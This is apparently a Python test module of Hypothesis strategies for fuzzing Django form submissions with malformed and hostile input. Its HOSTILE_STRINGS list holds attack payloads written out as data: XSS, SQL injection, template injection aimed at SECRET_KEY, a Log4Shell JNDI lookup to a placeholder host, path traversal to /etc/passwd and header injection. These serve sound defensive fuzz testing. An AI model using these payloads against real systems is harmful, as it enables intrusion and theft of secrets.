"""Hypothesis strategies for posting bad input to forms, reusable by every form's fuzz test.

The building blocks model what a browser, a script or an attacker can put in a request:
random and hostile text, numbers in every shape, huge values, missing fields, unknown
fields and repeated keys. ``form_data`` combines them around a form's real field names:

    @given(data=form_data({"hair_loss_pattern": st.sampled_from(["norwood_3", ...])}))

Values are strings (or lists of strings for repeated keys) because that is all a form
post can carry; Django's test client encodes them as a browser would.
"""

import string

from hypothesis import strategies as st

# Any character a browser can send in UTF-8 (lone surrogates cannot be encoded).
any_character = st.characters(exclude_categories=("Cs",))

any_text = st.text(any_character, max_size=300)

HOSTILE_STRINGS = [
    "",
    " ",
    "\x00",
    "abc\x00def",
    "\r\n\r\nSet-Cookie: x=1",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "' OR '1'='1' --",
    "1; DROP TABLE auth_user; --",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "${jndi:ldap://example.invalid/a}",
    "../../../../etc/passwd",
    "%00%2e%2e%2f",
    "\u202egnp.exe",
    "\ufeff",
    "𝕳𝖆𝖎𝖗 🧑‍⚕️ 👩🏽‍🦲",
    "Zalgo: Z̴̡̛͎a̶̗͑l̷͇̍g̸̱̈o̵̟͝",
    "ÅÄÖ åäö ß İı ǅ",
    "日本語のテキスト",
    "نص عربي",
    "NaN",
    "Infinity",
    "-Infinity",
    "1e309",
    "-0",
    "0x1F",
    "9" * 400,
    "true",
    "null",
    "None",
    "[]",
    "{}",
    '{"__proto__": {"admin": true}}',
]
hostile_text = st.sampled_from(HOSTILE_STRINGS)

numbers_as_text = st.one_of(
    st.integers().map(str),
    st.integers(min_value=-(10**40), max_value=10**40).map(str),
    st.floats(allow_nan=True, allow_infinity=True).map(repr),
    st.decimals(allow_nan=True, allow_infinity=True).map(str),
)

# Huge values: mostly large, now and then beyond DATA_UPLOAD_MAX_MEMORY_SIZE (2.5 MB).
huge_text = st.sampled_from([5_000, 50_000, 50_000, 50_000, 3_000_000]).flatmap(
    lambda size: st.sampled_from(string.ascii_letters + "é€9 ").map(lambda ch: ch * size)
)

scalar_value = st.one_of(
    any_text,
    hostile_text,
    numbers_as_text,
    st.booleans().map(str),
    huge_text,
)

# A key sent once (a string) or several times (a list: ?a=1&a=2).
field_value = st.one_of(scalar_value, st.lists(scalar_value, min_size=2, max_size=4))

field_name = st.one_of(
    st.text(any_character, min_size=1, max_size=40),
    st.sampled_from(["", "csrfmiddlewaretoken", "next", "__proto__", "a[]", "a[0][b]"]),
)


@st.composite
def form_data(draw, fields=None, extra_fields=True):
    """A form post built around ``fields`` ({name: strategy of plausible values}).

    Each known field is either missing, given a plausible value, given garbage, or
    repeated; unknown extra fields are added.
    """
    fields = fields or {}
    data = {}
    for name, plausible in fields.items():
        choice = draw(st.sampled_from(["missing", "plausible", "garbage", "repeated"]))
        if choice == "plausible":
            data[name] = draw(plausible)
        elif choice == "garbage":
            data[name] = draw(scalar_value)
        elif choice == "repeated":
            data[name] = draw(st.lists(st.one_of(plausible, scalar_value), min_size=2, max_size=4))
    if extra_fields:
        extras = draw(st.dictionaries(field_name, field_value, max_size=4))
        for name, value in extras.items():
            data.setdefault(name, value)
    return data


query_params = st.dictionaries(field_name, field_value, max_size=5)

# Bodies that are not what the content type claims.
CONTENT_TYPES = [
    "application/x-www-form-urlencoded",
    "multipart/form-data; boundary=fuzzboundary",
    "multipart/form-data",
    "multipart/form-data; boundary=",
    "application/json",
    "text/plain",
    "application/octet-stream",
    "",
]
raw_body = st.tuples(st.binary(max_size=2_000), st.sampled_from(CONTENT_TYPES))

http_method = st.sampled_from(["GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS"])

path_segment = st.text(any_character, min_size=1, max_size=60).filter(lambda s: "/" not in s)
